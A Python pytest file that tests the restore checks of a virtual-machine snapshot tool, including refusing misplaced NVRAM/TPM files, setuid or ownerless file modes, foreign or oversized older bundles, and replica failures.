@pytest.mark.parametrize("role", [Role.NVRAM, Role.TPM])
def test_a_file_that_would_be_written_elsewhere_is_refused(loss, role, place):
    plan = loss.plan()
    own = plan.manifest.parts[0]
    part = own.model_copy(update={"role": role, "source": place})
    changed = plan.manifest.model_copy(update={"parts": (part,)})
    with pytest.raises(RefusedError, match="would be written to") as raised:
        check_files("web@s2", changed)
    assert "'By hand'" in raised.value.step
    usual = f"{NVRAM}/web_VARS.fd"
    part = own.model_copy(update={"role": role, "source": usual})
    check_files("web@s2", plan.manifest.model_copy(update={"parts": (part,)}))


@pytest.mark.parametrize(
    ("uid", "gid", "mode"),
    [
        (0, 0, 0o4755), (0, 0, 0o700), (0, 0, 1 << 40), (0, 0, -1),
        (1 << 40, 0, 0o600), (0, (1 << 32) - 1, 0o600), (-1, 0, 0o600),
    ],
)  # fmt: skip
def test_a_file_that_could_be_run_or_has_no_possible_owner_is_refused(loss, uid, gid, mode):
    plan = loss.plan()
    place = {"role": Role.NVRAM, "source": f"{NVRAM}/web_VARS.fd"}
    owner = {"uid": uid, "gid": gid, "mode": mode}
    part = plan.manifest.parts[0].model_copy(update=place | owner)
    with pytest.raises(RefusedError, match="has an owner or a mode"):
        check_files("web@s2", plan.manifest.model_copy(update={"parts": (part,)}))
    part = part.model_copy(update={"uid": 64055, "gid": 994, "mode": 0o660})
    check_files("web@s2", plan.manifest.model_copy(update={"parts": (part,)}))


def test_an_older_bundle_of_another_guest_does_not_come(loss):
    path = loss.part("s1", MANIFEST_NAME)
    manifest = parse_manifest(path.read_bytes(), "s1")
    path.write_bytes(manifest_bytes(manifest.model_copy(update={"uuid": UUID})))
    loss.rebuild(history=True)
    assert any("or of another bundle" in note for note in loss.world.heard.notes)
    assert not (loss.world.paths.bundles / loss.uuid / loss.taken["s1"].run).exists()


def test_an_older_bundle_without_room_does_not_come(loss, monkeypatch):
    path = loss.part("s1", MANIFEST_NAME)
    manifest = parse_manifest(path.read_bytes(), "s1")
    parts = [each.model_copy(update={"bytes": 1 << 60}) for each in manifest.parts]
    path.write_bytes(manifest_bytes(manifest.model_copy(update={"parts": tuple(parts)})))
    loss.rebuild(history=True)
    assert any("did not come back" in n and "MiB free" in n for n in loss.world.heard.notes)


def test_a_dataset_that_the_replica_does_not_list_is_an_error(loss):
    loss.source.kinds = lambda _wanted: {}
    with pytest.raises(UnavailableError, match="lists its snapshots, and not the dataset"):
        loss.plan()


def test_a_mark_of_the_domain_without_its_uuid_names_no_guest(loss):
    (newest,) = loss.replica.snapshots(["tank/web"])[-1:]
    stranger = replace(newest, dataset="tank/old", properties={"domain": "web"})
    loss.replica.put([stranger])
    assert loss.plan().manifest.uuid == loss.uuid


def test_a_store_that_is_a_file_is_an_error(loss):
    store = loss.world.paths.bundles
    shutil.rmtree(store, ignore_errors=True)
    plan = loss.plan()
    store.write_text("")
    with pytest.raises(UnavailableError, match="bundles"):
        bring_back(loss.context, loss.source, loss.local, plan, [plan.manifest.run])


def test_errors_of_the_replica_are_its_own(loss):
    loss.world.hooks.at["source.receive"] = failing(ReplicaError("nas", "cannot be reached"))
    with pytest.raises(SnaporchError, match="cannot be reached"):
        loss.rebuild()
    assert json.loads(json.dumps(loss.world.pool.names())) == []
